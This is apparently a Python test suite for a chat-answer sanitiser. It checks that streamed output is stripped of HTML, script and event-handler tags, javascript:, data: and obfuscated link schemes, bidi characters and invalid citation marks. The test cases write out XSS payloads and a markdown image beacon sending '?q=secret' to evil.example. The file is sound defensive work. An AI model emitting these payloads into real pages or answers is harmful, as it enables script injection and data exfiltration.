"""What reaches the visitor: whole marks that point somewhere, and nothing that a browser would act upon."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from chat.writing.answer import Answer
from tests.chat.passages import passage

PASSAGES = [
    passage("You can return shoes within 30 days. Sale items can't be returned.", number=0),
    passage("Standard delivery takes 3 to 5 days. Express delivery takes one day.", number=1, title="Delivery"),
    passage("Our store opens at 9:00.", number=2, title="Store"),
]


def shown(pieces: list[str], passages=PASSAGES, **options) -> str:
    answer = Answer(passages, **options)
    return "".join([*map(answer.feed, pieces), answer.finish()])


def test_a_text_without_anything_special_passes_as_it_comes_but_for_spaces_at_a_piece_s_end():
    answer = Answer(PASSAGES)
    pieces = ["Hel", "lo ", "wörld, ", "3 < 5", " and 👩‍👩‍👧 ", "\n- a\n- b ", "42"]
    assert [answer.feed(piece) for piece in pieces] == [
        "Hel",
        "lo",
        " wörld,",
        " 3 < 5",
        " and 👩‍👩‍👧",
        " \n- a\n- b",
        " 42",
    ]
    assert answer.finish() == ""


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("<b>bold</b> and <script>alert(1)</script>", "bold and alert(1)"),
        ("a <img src=x onerror=alert(1)> b", "a  b"),
        ("unclosed <img src=x onerror=alert(1)", "unclosed < img src=x onerror=alert(1)"),
        ("one<br>two <a href='x' class=y>three</a><br/>", "onetwo three"),
        ("<x onclick=alert(1)>", "< x onclick=alert(1)>"),
        ("<svg/onload=alert(1)>", "< svg/onload=alert(1)>"),
        ("Orders <EUR 50 cost 5; orders >EUR 50 are free [1].", "Orders < EUR 50 cost 5; orders >EUR 50 are free [1]."),
        ("Sizes <UK5 are small", "Sizes < UK5 are small"),
        ("a <b and b> c", "a < b and b> c"),
        ("Map<String, List<Integer>>", "Map< String, List< Integer>>"),
        ("Write `<div id=x>` here, <b>not</b> there", "Write `< div id=x>` here, not there"),
        (
            "Paste:\n```html\n<script src=x></script>\n```\n<b>Done</b>",
            "Paste:\n```html\n< script src=x>< /script>\n```\nDone",
        ),
        ("<<b>script>alert(1)", "script>alert(1)"),
        ("<!-- hidden --> shown", " shown"),
        ("see <https://example.com/a> or <me@example.com>", "see https://example.com/a or me@example.com"),
        (f"<https://e.example/{'a' * 400}>", f"< https://e.example/{'a' * 400}>"),
        ("3 < 5, <3 and a <- b", "3 < 5, <3 and a <- b"),
        ("![pixel](https://evil.example/p.png?q=secret)", "pixel"),
        ("![pixel][ref]\n\n[ref]: https://evil.example/p.png", "pixel[ref]\n\n[ref] : https://evil.example/p.png"),
        ("Great![1] Thanks!", "Great! [1] Thanks!"),
        ("[site](https://example.com/a_(b)?c=d)", "[site](https://example.com/a_(b)?c=d)"),
        ('[site](http://example.com "a title")', "[site](http://example.com)"),
        ("[mail](mailto:help@example.com)", "[mail](mailto:help@example.com)"),
        ("[x](javascript:alert(1))", "[x]"),
        ("[x](JaVaScRiPt:alert(1))", "[x]"),
        ("[x](&#106;avascript:alert(1))", "[x]"),
        ("[x](java\u200bscript:alert(1))", "[x]"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "[x]"),
        ("[x](//evil.example)", "[x]"),
        ("[x](vbscript:x)(javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("[![x](https://evil.example/i.png)](javascript:alert(1))", "[x]"),
        ("[1](https://evil.example)", "[1]"),
        ("bidi \u202ereversed\u202c and \U000e0041tag and \x00nul", "bidi reversed and tag and nul"),
        ("one\r\ntwo\rthree", "one\ntwo\nthree"),
        ("half \ud83d", "half "),
    ],
)
def test_what_a_browser_would_act_upon_is_taken_out(raw: str, safe: str):
    assert shown([raw]) == safe
    assert shown(list(raw)) == safe


def test_an_emoji_sent_in_two_halves_is_put_together():
    assert shown(["a \ud83d", "\ude00 b"]) == "a 😀 b"


ALPHABET = st.sampled_from(
    [
        *"<>[]()!:/ab1 9\n\"'\\&#【】",
        "http://e.x",
        "javascript:x",
        "<b>",
        "<a href=",
        "`",
        "```\n",
        "![",
        "](",
        "[1]",
        "[9]",
        "<!--",
        "[2#0]",
        "［",
        "］",
        "[[1]]",
        "[[",
        "\\[9\\]",
        "[Passage 1, ",
        "\u202e",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(ALPHABET, max_size=25).map("".join), st.lists(st.integers(0, 60), max_size=6))
@example("< [9]script>", [])
@example("!<b>[x](http://e.x)", [])
@example("[y]![](x)(javascript:x)", [])
@example("[<b>9</b>]", [])
@example("<［9］b>", [])
@example("<\\[9\\]script>", [])
def test_no_cut_and_no_nesting_lets_anything_through(raw: str, cuts: list[int]):
    edges = sorted({0, len(raw), *(min(cut, len(raw)) for cut in cuts)})
    pieces = [raw[a:b] for a, b in pairwise(edges)]
    whole = shown([raw])
    assert shown(pieces) == whole
    assert not re.search(r"<[a-zA-Z/!?]", whole)
    assert "![" not in whole
    assert "\u202e" not in whole
    assert all(re.match(r"https?://|mailto:", target) for target in re.findall(r"\]\((.{0,20})", whole))
    assert "]:" not in whole


def in_code(before: str) -> bool:
    """Where "[1]" is no mark: behind an opening fence, or a backtick without its like in the line."""
    *lines, line = before.split("\n")
    fences = sum(each.lstrip().startswith(("```", "~~~")) for each in lines)
    opens = line.lstrip().startswith(("```", "~~~"))
    return bool(fences % 2) != opens if opens else bool(fences % 2 or line.count("`") % 2)


@settings(max_examples=300, deadline=None)
@given(st.lists(ALPHABET, max_size=25).map("".join))
@example("```\n![```\n[[1]]")
@example("[x](`)[1]")
@example("[\n[9]```\n[1]")
def test_every_mark_that_is_shown_has_its_source(raw: str):
    answer = Answer(PASSAGES)
    text = answer.feed(raw) + answer.finish()
    marks = [mark for mark in re.finditer(r"\[\s*(\d{1,3})\s*\]", text) if not in_code(text[: mark.start()])]
    numbers = {int(mark[1]) for mark in marks}
    assert numbers <= set(range(1, len(answer.sources()) + 1))
    assert "`" in raw or numbers == set(range(1, len(numbers) + 1))  # in code a provider may have marked the first


def test_an_answer_is_cut_at_its_longest_and_says_that_it_is_full():
    answer = Answer(PASSAGES, longest=12)
    assert answer.feed("12345678") == "12345678"
    assert not answer.full
    assert answer.feed("9 [1] and more") == "9 "
    assert answer.full
    assert answer.feed("more") + answer.finish() == ""
